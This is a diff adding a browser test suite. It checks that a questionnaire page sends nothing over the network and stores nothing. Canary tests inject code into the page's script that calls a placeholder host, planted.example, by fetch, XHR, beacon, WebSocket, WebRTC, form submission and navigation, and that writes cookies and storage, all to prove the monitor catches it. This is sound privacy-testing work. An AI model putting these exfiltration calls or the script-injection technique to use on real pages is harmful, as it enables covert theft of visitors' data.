@@ -1,0 +1,144 @@
+// Nothing leaves the page and nothing stays behind: a whole interview in every form of the page, under the eyes of
+// Chromium's DevTools. And the eyes are open: whatever is planted in a copy of the page is seen.
+
+import assert from "node:assert/strict";
+import { after, before, test } from "node:test";
+import { handOf, launch, siteUrl } from "./browser.mjs";
+import { until } from "./drivers/until.mjs";
+import { PHARMA, walk } from "./enterprises.mjs";
+import { FORMS } from "./forms.mjs";
+import { begin, choose, send, started } from "./walk.mjs";
+import { stored, watch } from "./watch.mjs";
+
+let browser;
+before(async () => (browser = await launch()));
+after(() => browser.close());
+
+/** Opens a form of the page in a new context and watches it from when it has started. */
+async function watched({ url, root, frame }, { options, prepare = async () => {} } = {}) {
+  const context = await browser.newContext({ locale: "zh-CN", viewport: { width: 1280, height: 800 }, ...options });
+  const page = await context.newPage();
+  const { seen, begin } = await watch(page);
+  await prepare(page);
+  await page.goto(await url());
+  const place = frame ? await (await page.waitForSelector(frame)).contentFrame() : page;
+  const hand = handOf(place, root);
+  await started(hand);
+  begin();
+  return { context, page, place, hand, seen };
+}
+
+/** Everything that a visitor can do with the page: edit a list, save, open, print, change the language, go back, clear. */
+async function visit(page, place, hand) {
+  await walk(hand, PHARMA);
+  const button = (name) => place.getByRole("button", { name }).first();
+  const saving = page.waitForEvent("download");
+  await button("保存").click();
+  const file = await (await saving).path();
+  await button("打印").click();
+  await place.locator("details > summary").first().click();
+  await page.goBack();
+  await place.locator("form").first().waitFor();
+  await button("全部回答").click();
+  await place.locator("[data-answered=d3_drugs] button").click();
+  await place.locator("[data-item='0']").getByRole("button", { name: "复制一条" }).click();
+  await send(hand);
+  await place.locator("[data-item='0']").getByRole("button", { name: "删除" }).click();
+  await button("撤销删除").click();
+  await place.locator(".tools button").last().click();
+  await place.locator(".tools button").last().click();
+  await button("清除").click();
+  await place.locator("#clearing button.danger").click();
+  await place.locator(".tools input[type=file]").setInputFiles(file);
+  await place.locator("[data-answered=g_enterprise]").waitFor();
+}
+
+for (const form of FORMS.filter(({ browsers }) => browsers.includes("Chromium"))) {
+  test(`${form.name}: a whole interview asks the network for nothing and stores nothing`, async () => {
+    const { context, page, place, hand, seen } = await watched(form);
+    await visit(page, place, hand);
+    assert.deepEqual(await stored(page), []);
+    assert.deepEqual(seen, []);
+    await context.close();
+  });
+}
+
+/** Where planted requests go; there is no such place. */
+const AWAY = "https://planted.example/";
+
+/** What could carry data away, as a page would write it; and what is then seen of it. */
+const CALLS = {
+  fetch: [`fetch(away)`, /^Fetch |^connect-src /],
+  XMLHttpRequest: [`const request = new XMLHttpRequest(); request.open("POST", away); request.send("x")`, /^XHR /],
+  beacon: [`navigator.sendBeacon(away, "x")`, /^sendBeacon /],
+  image: [`new Image().src = away`, /^Image /],
+  style: [`document.body.style.backgroundImage = "url(" + away + ")"`, /^Image /],
+  script: [`add("script", { src: away })`, /^Script |^script-src/],
+  frame: [`add("iframe", { src: away })`, /^Document |^frame-src/],
+  media: [`add("audio", { src: away })`, /^Media |^media-src/],
+  stylesheet: [`add("link", { rel: "stylesheet", href: away })`, /^Stylesheet |^style-src/],
+  preconnect: [`add("link", { rel: "preconnect", href: away })`, /^link preconnect /],
+  import: [`import(away)`, /^Script |^script-src/],
+  WebSocket: [`new WebSocket(away.replace("http", "ws"))`, /^WebSocket /],
+  EventSource: [`new EventSource(away)`, /^EventSource /],
+  WebTransport: [`new WebTransport(away)`, /^WebTransport /],
+  WebRTC: [`new RTCPeerConnection({ iceServers: [{ urls: "stun:planted.example/WebRTC" }] })`, /^RTCPeerConnection/],
+  Worker: [`new Worker("app.js?Worker")`, /^Worker |^worker /],
+};
+
+/** What would leave the page: each on its own, since the others would go with it. */
+const DEPARTURES = {
+  form: [`add("form", { action: away, target: "_blank" }).submit()`, /^form-action |^formSubmission|^popup |^window /],
+  popup: [`open(away)`, /^window |^popup /],
+  navigation: [`location.href = away`, /^scriptInitiated /],
+};
+
+/** What could be left behind. */
+const KEPT = {
+  localStorage: `localStorage.planted = 1`,
+  sessionStorage: `sessionStorage.planted = 1`,
+  cookie: `document.cookie = "planted=1"`,
+  indexedDB: `indexedDB.open("planted")`,
+  cache: `caches.open("planted")`,
+  file: `navigator.storage.getDirectory().then((folder) => folder.getFileHandle("planted", { create: true }))`,
+  window: `window.name = "planted"`,
+};
+
+/** A copy of the site that does more, as soon as the visitor goes on. */
+const planted = (...codes) => ({
+  prepare: (page) =>
+    page.route(/app[^/]*\.js$/, async (route) => {
+      const response = await route.fetch();
+      const add = "const add = (tag, set) => document.body.appendChild(Object.assign(document.createElement(tag), set));";
+      const listeners = codes.map((code) => `document.addEventListener("submit", () => { ${code} }, true);`);
+      await route.fulfill({ response, body: [await response.text(), add, ...listeners].join("\n") });
+    }),
+});
+
+const site = { url: siteUrl };
+const calling = ([name, [code]]) => `const away = ${JSON.stringify(AWAY + name)}; ${code}`;
+
+for (const [policy, options] of [["under our content policy", {}], ["without it", { bypassCSP: true }]]) {
+  for (const plants of [CALLS, ...Object.entries(DEPARTURES).map((one) => Object.fromEntries([one]))]) {
+    test(`a canary: what is planted is seen ${policy}: ${Object.keys(plants)[0]}${Object.keys(plants).length > 1 ? " and all other calls" : ""}`, async () => {
+      const { context, hand, seen } = await watched(site, { ...planted(...Object.entries(plants).map(calling)), options });
+      // What navigates away may end the click in the middle.
+      await begin(hand, { date: "last" }).catch(() => {});
+      for (const [name, [, expected]] of Object.entries(plants)) {
+        await until(`${name} is seen`, () => seen.some((what) => expected.test(what) && what.includes(name)));
+      }
+      await context.close();
+    });
+  }
+}
+
+test("a canary: whatever is kept is found", async () => {
+  const { context, page, hand, seen } = await watched(site, planted(...Object.values(KEPT)));
+  await begin(hand, { date: "last" });
+  await choose(hand, ["d8"]);
+  const kinds = async () => (await stored(page)).map((what) => what.split(" ")[0]);
+  await until("all is found", async () => (await kinds()).length === Object.keys(KEPT).length);
+  assert.deepEqual(await kinds().then((all) => all.sort()), Object.keys(KEPT).sort());
+  assert.deepEqual(seen, []);
+  await context.close();
+});
